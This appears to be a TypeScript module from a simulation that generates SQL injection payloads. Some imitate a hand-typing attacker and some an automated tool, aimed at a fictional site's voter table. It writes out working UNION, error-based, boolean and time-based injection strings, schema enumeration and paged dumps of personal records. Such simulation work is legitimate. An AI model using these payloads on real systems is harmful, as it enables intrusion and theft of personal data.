/** The SQL that invented attackers send, in a site's own table names: by hand, and in the manner of automated tools
 *  (markers around each value, random numbers, comments that swallow the rest). */
import { voterAt } from './people.ts'
import type { Random } from './random.ts'
import type { InjectionEffect, SiteDescription } from './site.ts'

export interface Payload {
  readonly text: string
  readonly effect: InjectionEffect
}

const span = (from: number, count: number): number[] => Array.from({ length: count }, (_, i) => from + i)

const columnMismatch = { code: '42601', message: 'each UNION query must have the same number of columns' }
const textToNumber = (value: string) => ({
  code: '22P02',
  message: `invalid input syntax for type numeric: "${value}"`,
})

/** What a person types who looks for a hole, finds it, and looks around: in the order of discovery. */
export function handTyped(site: SiteDescription, licence: string): Payload[] {
  const { table, dialect, roll } = site
  const comment = dialect === 'mysql' ? '-- -' : '--'
  const quote = { code: '42601', message: `unterminated quoted string at or near "'"` }
  const columns = `${table.id},${table.licence},${table.last},${table.birth},${table.email}`
  const sleep = dialect === 'mysql' ? `' AND SLEEP(4)${comment}` : `'; SELECT pg_sleep(4)${comment}`
  return [
    { text: `${licence}'`, effect: { error: quote } },
    { text: `${licence}' ${comment}`, effect: { shown: [0] } },
    { text: `${licence}' AND '1'='2`, effect: {} },
    { text: `' OR 1=1 ${comment}`, effect: { rows: roll.count, shown: span(0, 25) } },
    {
      text: `' ORDER BY 6${comment}`,
      effect: { error: { code: '42P10', message: 'ORDER BY position 6 is not in select list' } },
    },
    { text: `' UNION SELECT NULL,NULL${comment}`, effect: { error: columnMismatch } },
    { text: `' UNION SELECT 1,'a','b','c','d'${comment}`, effect: { rows: 1, shownCharacters: 42 } },
    { text: `' UNION SELECT 1,version(),current_user,'x','y'${comment}`, effect: { rows: 1, shownCharacters: 118 } },
    {
      text: `' UNION SELECT 1,table_name,'a','b','c' FROM information_schema.tables${comment}`,
      effect: { rows: 9, shownCharacters: 640 },
    },
    {
      text: `' UNION SELECT 1,column_name,'a','b','c' FROM information_schema.columns WHERE table_name='${table.name.split('.').at(-1)}'${comment}`,
      effect: { rows: 10, shownCharacters: 710 },
    },
    { text: `' UNION SELECT ${columns} FROM ${table.name} LIMIT 3${comment}`, effect: { rows: 3, shown: span(0, 3) } },
    {
      text: `' UNION SELECT ${columns} FROM ${table.name} WHERE ${table.id}=${roll.firstId + 611 * roll.idStep}${comment}`,
      effect: { rows: 1, shown: [611] },
    },
    { text: `${licence}' AND (SELECT count(*) FROM ${table.name})>20000${comment}`, effect: { rows: 1, shown: [0] } },
    { text: `${licence}${sleep}`, effect: { rows: 1, shown: [0], sleepMs: 4_000 } },
  ]
}

/** Text as a tool writes it to avoid quotes: PostgreSQL `(CHR(113)||CHR(98))`, MySQL `0x7162`. */
export function unquoted(site: SiteDescription, text: string): string {
  const codes = [...text].map((character) => character.charCodeAt(0))
  return site.dialect === 'mysql'
    ? `0x${codes.map((code) => code.toString(16)).join('')}`
    : `(${codes.map((code) => `CHR(${code})`).join('||')})`
}

export interface ToolRun {
  /** Five letters before and after each value that the tool reads out of the page. */
  readonly startMark: string
  readonly endMark: string
}

export const toolRun = (random: Random): ToolRun => ({
  startMark: `q${random.letters(3, 'bcdfghjklmnpqrstvwxz')}q`,
  endMark: `q${random.letters(3, 'bcdfghjklmnpqrstvwxz')}q`,
})

const endComment = (random: Random): string =>
  `-- ${random.letters(4, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}`

/** What a tool tries before it knows the hole: closings, boolean pairs, errors, stacked and timed statements, column
 *  counts. */
export function toolDetection(site: SiteDescription, licence: string, run: ToolRun, random: Random): Payload[] {
  const payloads: Payload[] = [
    {
      text: `${licence}${random.shuffle([...`'"(.),(`]).join('')}`,
      effect: { error: { code: '42601', message: 'syntax error at or near "("' } },
    },
  ]
  const closings = ['', ')', "'", "')", "'))", "%'"] as const
  const mark = (inner: string): string =>
    site.dialect === 'mysql'
      ? `EXTRACTVALUE(${random.integer(1000, 9999)},CONCAT(0x5c,${unquoted(site, run.startMark)},${inner},${unquoted(site, run.endMark)}))`
      : `CAST(${unquoted(site, run.startMark)}||${inner}||${unquoted(site, run.endMark)} AS NUMERIC)`
  const wait = site.dialect === 'mysql' ? 'SLEEP(5)' : `(SELECT ${random.integer(1000, 9999)} FROM PG_SLEEP(5))`
  const asText = site.dialect === 'mysql' ? '' : '::text'
  for (const closing of closings) {
    const quoted = closing.includes("'")
    const broken = { error: { code: '42601', message: `syntax error at or near ")"` } }
    const works = closing === "'"
    const a = random.integer(1000, 9999)
    const tail = endComment(random)
    const judge = (effect: InjectionEffect): InjectionEffect => (works ? effect : quoted ? broken : {})
    payloads.push(
      { text: `${licence}${closing} AND ${a}=${random.integer(1000, 9999)}${quoted ? tail : ''}`, effect: judge({}) },
      { text: `${licence}${closing} AND ${a}=${a}${quoted ? tail : ''}`, effect: judge({ shown: [0] }) },
      {
        text: `${licence}${closing} AND ${a}=${mark(`(SELECT (CASE WHEN (${a}=${a}) THEN 1 ELSE 0 END))${asText}`)}${tail}`,
        effect: judge({ error: textToNumber(`${run.startMark}1${run.endMark}`) }),
      },
      { text: `${licence}${closing};SELECT ${wait}${tail}`, effect: judge({ rows: 1, sleepMs: 5_000 }) },
      { text: `${licence}${closing} AND ${a}=${wait}${tail}`, effect: judge({ sleepMs: 5_000 }) },
    )
  }
  for (let columns = 1; columns <= 8; columns++) {
    const nulls = Array.from({ length: columns }, () => 'NULL').join(',')
    payloads.push({
      text: `${licence}' UNION ALL SELECT ${nulls}${endComment(random)}`,
      effect: columns === 5 ? { rows: 1, shownCharacters: 20 } : { error: columnMismatch },
    })
  }
  return payloads
}

function joined(site: SiteDescription, columns: readonly string[], run: ToolRun): string {
  const cell = (column: string): string =>
    site.dialect === 'mysql'
      ? `IFNULL(CAST(${column} AS NCHAR),0x20)`
      : `COALESCE(CAST(${column} AS VARCHAR(10000))::text,(CHR(32)))`
  const parts = columns.flatMap((column, i) =>
    i === 0 ? [cell(column)] : [unquoted(site, run.startMark.slice(1, 4)), cell(column)],
  )
  const all = [unquoted(site, run.startMark), ...parts, unquoted(site, run.endMark)]
  return site.dialect === 'mysql' ? `CONCAT(${all.join(',')})` : all.join('||')
}

/** One value read out through UNION SELECT: `from` is what follows FROM, empty for a bare expression. */
export function unionRead(
  site: SiteDescription,
  columns: readonly string[],
  from: string,
  run: ToolRun,
  random: Random,
): string {
  return `-${random.integer(1000, 9999)}' UNION ALL SELECT NULL,${joined(site, columns, run)},NULL,NULL,NULL${from === '' ? '' : ` FROM ${from}`}${endComment(random)}`
}

/** The records of a table one after another, `perRequest` of them in one answer. */
export function unionDump(
  site: SiteDescription,
  from: number,
  count: number,
  perRequest: number,
  run: ToolRun,
  random: Random,
): Payload[] {
  const { table, roll } = site
  const columns = [table.birth, table.email, table.first, table.id, table.last, table.licence]
  const payloads: Payload[] = []
  for (let index = from; index < from + count; index += perRequest) {
    const slice = site.dialect === 'mysql' ? `LIMIT ${index},${perRequest}` : `OFFSET ${index} LIMIT ${perRequest}`
    const shown = span(index, Math.min(perRequest, from + count - index))
    const extra = shown.reduce((sum, i) => sum + voterAt(roll, i).email.length + 31, 0)
    payloads.push({
      text: unionRead(site, columns, `${table.name} ${slice}`, run, random),
      effect: { rows: shown.length, shown, shownCharacters: extra },
    })
  }
  return payloads
}
